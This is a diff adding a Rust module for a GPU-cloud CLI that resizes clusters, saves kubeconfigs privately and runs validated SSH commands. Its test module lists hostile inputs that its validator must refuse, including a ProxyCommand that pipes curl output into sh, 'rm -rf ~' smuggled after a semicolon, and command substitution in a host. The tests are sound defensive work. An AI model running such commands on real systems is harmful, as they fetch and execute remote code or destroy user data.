@@ -1,0 +1,345 @@
+//! `gpucloud clusters resize|kubeconfig|ssh`: changing a cluster's size, and getting into it.
+
+use std::io::{IsTerminal as _, Write as _};
+use std::path::Path;
+
+use gpucloud::{ClusterId, ClusterSize, Node, ProviderCluster, SizeReached, WaitEnd};
+
+use super::clusters::{follower, wait_options};
+use crate::cli::{KubeconfigArgs, ResizeArgs, SshArgs};
+use crate::error::CliError;
+use crate::ledger::Ledgers;
+use crate::output;
+use crate::progress::ProgressDisplay;
+use crate::sanitize::cell;
+
+pub async fn resize(args: &ResizeArgs, json: bool, ledgers: &Ledgers) -> Result<(), CliError> {
+    let (size, shown) = match (args.gpus, args.nodes) {
+        (Some(gpus), None) => (ClusterSize::Gpus(gpus), format!("{gpus} GPUs")),
+        (None, Some(nodes)) => (ClusterSize::Nodes(nodes), format!("{nodes} nodes")),
+        // clap's group makes exactly one of them required.
+        _ => {
+            return Err(CliError::Usage(
+                "give exactly one of --gpus and --nodes".into(),
+            ));
+        }
+    };
+    let client = follower(&args.target, ledgers)?;
+    let id = ClusterId::new(&args.id);
+    let mut cluster = client.resize(&id, size).await?;
+    if args.wait {
+        if !json {
+            say!(
+                "Resizing {} cluster {} to {shown}.",
+                client.provider(),
+                cell(&id)
+            );
+        }
+        let display = ProgressDisplay::new("", 1.0);
+        let report = client
+            .wait_for_report(
+                &id,
+                &wait_options(&args.wait_options),
+                &SizeReached(size),
+                |p| display.update(p),
+            )
+            .await;
+        display.finish();
+        output::timeline(&report.timeline, report.result.is_ok());
+        cluster = match report.result? {
+            WaitEnd::Seen(cluster) => cluster,
+            WaitEnd::Gone => {
+                return Err(CliError::Cloud(gpucloud::Error::Timeout {
+                    what: format!("cluster {id} was gone before it reached {shown}"),
+                    after: report.timeline.waited,
+                }));
+            }
+        };
+    }
+    if json {
+        output::json(&cluster)
+    } else {
+        if !args.wait {
+            say!(
+                "Asked {} to resize cluster {} to {shown}; `--wait` follows it.",
+                client.provider(),
+                cell(&id)
+            );
+        }
+        say!();
+        output::cluster(&cluster);
+        Ok(())
+    }
+}
+
+/// The most a kubeconfig may be (they are a few KiB).
+const MAX_KUBECONFIG_BYTES: usize = 1 << 20;
+
+pub async fn kubeconfig(args: &KubeconfigArgs, ledgers: &Ledgers) -> Result<(), CliError> {
+    let client = follower(&args.target, ledgers)?;
+    let provider = client.provider();
+    let cluster = client.get(&ClusterId::new(&args.id)).await?;
+    let config = match &cluster.raw {
+        ProviderCluster::Together(info) => info.kube_config.clone().unwrap_or_default(),
+        _ => {
+            return Err(CliError::Cloud(gpucloud::Error::Unsupported {
+                provider,
+                operation: "kubeconfig (only Together documents one in its cluster object)",
+            }));
+        }
+    };
+    if config.trim().is_empty() {
+        return Err(CliError::Other(format!(
+            "{provider} cluster {} has no kubeconfig yet (it is set once the cluster is ready)",
+            cell(&args.id)
+        )));
+    }
+    if config.len() > MAX_KUBECONFIG_BYTES {
+        return Err(CliError::Other(format!(
+            "{provider}'s kubeconfig for {} is {} bytes, over the 1 MiB gpucloud accepts",
+            cell(&args.id),
+            config.len()
+        )));
+    }
+    match &args.output {
+        Some(path) => {
+            write_private(path, config.as_bytes())?;
+            tell!(
+                "Wrote the kubeconfig of {provider} cluster {} to {} (mode 0600).",
+                cell(&args.id),
+                cell(&path.display())
+            );
+            Ok(())
+        }
+        None if std::io::stdout().is_terminal() && !args.print => Err(CliError::Usage(
+            "the kubeconfig holds the cluster's credentials: write it with -o FILE, or pass \
+             --print to show it on this terminal"
+                .into(),
+        )),
+        None if std::io::stdout().is_terminal() => {
+            // On a terminal the provider's text may not move the cursor or set a title.
+            output::stdout_text(&crate::sanitize::text_keeping_lines(&config));
+            Ok(())
+        }
+        None => {
+            // Piped or redirected: the bytes as the provider sent them.
+            let mut stdout = std::io::stdout().lock();
+            if let Err(error) = stdout
+                .write_all(config.as_bytes())
+                .and_then(|()| stdout.flush())
+            {
+                output::stdout_failed(error);
+            }
+            Ok(())
+        }
+    }
+}
+
+/// Writes `bytes` to `path` through a temporary file of mode 0600 in the same directory,
+/// renamed over `path`: no other user can read it, and no reader sees half of it.
+fn write_private(path: &Path, bytes: &[u8]) -> Result<(), CliError> {
+    let shown = cell(&path.display());
+    let io = |doing: &str, e: std::io::Error| CliError::Other(format!("{doing} {shown}: {e}"));
+    let dir = match path.parent() {
+        Some(dir) if !dir.as_os_str().is_empty() => dir,
+        _ => Path::new("."),
+    };
+    // tempfile creates its files with mode 0600 on Unix.
+    let mut file = tempfile::NamedTempFile::new_in(dir).map_err(|e| io("cannot write", e))?;
+    file.write_all(bytes)
+        .and_then(|()| file.as_file().sync_all())
+        .map_err(|e| io("cannot write", e))?;
+    file.persist(path)
+        .map_err(|e| io("cannot replace", e.error))?;
+    Ok(())
+}
+
+pub async fn ssh(args: &SshArgs, ledgers: &Ledgers) -> Result<(), CliError> {
+    let client = follower(&args.target, ledgers)?;
+    let provider = client.provider();
+    let cluster = client.get(&ClusterId::new(&args.id)).await?;
+    let node = pick_node(&cluster.nodes, args.node.as_deref())
+        .map_err(|why| CliError::Other(format!("{provider} cluster {}: {why}", cell(&args.id))))?;
+    let command = ssh_command(node).ok_or_else(|| {
+        CliError::Other(format!(
+            "{provider} gives node {} no SSH command or address yet",
+            cell(&node.id)
+        ))
+    })?;
+    if !args.exec {
+        say!("{}", cell(&command));
+        return Ok(());
+    }
+    let argv = safe_argv(&command).map_err(|why| {
+        CliError::Other(format!(
+            "not running {provider}'s SSH command for node {} ({why}); it was: {}",
+            cell(&node.id),
+            cell(&command)
+        ))
+    })?;
+    let status = std::process::Command::new(&argv[0])
+        .args(&argv[1..])
+        .status()
+        .map_err(|e| CliError::Other(format!("cannot run ssh: {e}")))?;
+    match status.code() {
+        Some(0) => Ok(()),
+        code => Err(CliError::Other(format!(
+            "ssh ended with {}",
+            code.map_or_else(|| "a signal".to_string(), |c| format!("exit code {c}"))
+        ))),
+    }
+}
+
+/// The node `wanted` names (its id, or its position), or the first with an address.
+fn pick_node<'a>(nodes: &'a [Node], wanted: Option<&str>) -> Result<&'a Node, String> {
+    let listing = || {
+        nodes
+            .iter()
+            .enumerate()
+            .map(|(i, n)| format!("{i}: {}", cell(&n.id)))
+            .collect::<Vec<_>>()
+            .join(", ")
+    };
+    match wanted {
+        Some(wanted) => nodes
+            .iter()
+            .find(|n| n.id == wanted)
+            .or_else(|| wanted.parse::<usize>().ok().and_then(|i| nodes.get(i)))
+            .ok_or_else(|| format!("no node {:?}; its nodes are {}", cell(wanted), listing())),
+        None => nodes
+            .iter()
+            .find(|n| ssh_command(n).is_some())
+            .ok_or_else(|| match nodes.len() {
+                0 => "it has no nodes yet".to_string(),
+                _ => format!("no node has an address yet ({})", listing()),
+            }),
+    }
+}
+
+/// The provider's SSH command for `node`, else `ssh` to its public (then private) address or
+/// host name.
+fn ssh_command(node: &Node) -> Option<String> {
+    node.ssh_command
+        .clone()
+        .filter(|c| !c.trim().is_empty())
+        .or_else(|| {
+            [&node.public_ip, &node.private_ip, &node.hostname]
+                .into_iter()
+                .flatten()
+                .find(|a| !a.trim().is_empty())
+                .map(|address| format!("ssh {address}"))
+        })
+}
+
+/// The words of `command` if it is a plain `ssh [-p PORT] [-l USER] [USER@]HOST`, else why
+/// not. A provider's text is never run through a shell, and options that run commands of
+/// their own (`-o ProxyCommand=…`, `LocalCommand`, `-J`) or forward ports are refused.
+fn safe_argv(command: &str) -> Result<Vec<String>, String> {
+    let words = shlex::split(command).ok_or("its quoting does not parse")?;
+    let mut words = words.into_iter();
+    if words.next().as_deref() != Some("ssh") {
+        return Err("it does not start with ssh".into());
+    }
+    let mut argv = vec!["ssh".to_string()];
+    let mut destination = None;
+    while let Some(word) = words.next() {
+        match word.as_str() {
+            "-p" | "-l" => {
+                let value = words.next().ok_or(format!("{word} has no value"))?;
+                let valid = if word == "-p" {
+                    value.parse::<u16>().is_ok_and(|p| p > 0)
+                } else {
+                    is_user(&value)
+                };
+                if !valid {
+                    return Err(format!("{word} {value:?} is not a plain value"));
+                }
+                argv.extend([word, value]);
+            }
+            _ if destination.is_none() && is_destination(&word) => destination = Some(word),
+            _ => return Err(format!("{word:?} is more than a plain ssh to a host")),
+        }
+    }
+    argv.push(destination.ok_or("it names no host")?);
+    Ok(argv)
+}
+
+fn is_user(word: &str) -> bool {
+    !word.is_empty()
+        && !word.starts_with('-')
+        && word
+            .chars()
+            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-'))
+}
+
+fn is_destination(word: &str) -> bool {
+    let (user, host) = match word.split_once('@') {
+        Some((user, host)) => (Some(user), host),
+        None => (None, word),
+    };
+    user.is_none_or(is_user)
+        && !host.is_empty()
+        && !host.starts_with('-')
+        && host
+            .chars()
+            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | ':'))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn plain_ssh_commands_are_run_word_by_word() {
+        assert_eq!(
+            safe_argv("ssh ubuntu@203.0.113.7").unwrap(),
+            ["ssh", "ubuntu@203.0.113.7"]
+        );
+        assert_eq!(
+            safe_argv("ssh -p 2222 -l root node-1.example").unwrap(),
+            ["ssh", "-p", "2222", "-l", "root", "node-1.example"]
+        );
+    }
+
+    #[test]
+    fn anything_more_than_a_plain_ssh_is_refused() {
+        for hostile in [
+            "ssh -o ProxyCommand='curl evil|sh' host",
+            "ssh host; rm -rf ~",
+            "ssh host 'rm -rf ~'",
+            "ssh -J jump host",
+            "ssh -L 6443:localhost:6443 host",
+            "bash -c 'ssh host'",
+            "ssh -p 0 host",
+            "ssh -l -oProxyCommand=x host",
+            "ssh -- -oProxyCommand=x",
+            "ssh 'unterminated",
+            "ssh",
+            "ssh $(whoami)@host",
+        ] {
+            assert!(safe_argv(hostile).is_err(), "{hostile}");
+        }
+    }
+
+    #[test]
+    fn nodes_are_picked_by_id_position_or_first_address() {
+        let nodes = [
+            Node {
+                id: "cp-0".into(),
+                ..Node::default()
+            },
+            Node {
+                id: "gpu-0".into(),
+                public_ip: Some("198.51.100.2".into()),
+                ..Node::default()
+            },
+        ];
+        assert_eq!(pick_node(&nodes, None).unwrap().id, "gpu-0");
+        assert_eq!(pick_node(&nodes, Some("cp-0")).unwrap().id, "cp-0");
+        assert_eq!(pick_node(&nodes, Some("1")).unwrap().id, "gpu-0");
+        let missing = pick_node(&nodes, Some("7")).unwrap_err();
+        assert!(missing.contains("0: cp-0, 1: gpu-0"), "{missing}");
+        assert_eq!(ssh_command(&nodes[1]).as_deref(), Some("ssh 198.51.100.2"));
+        assert_eq!(ssh_command(&nodes[0]), None);
+    }
+}
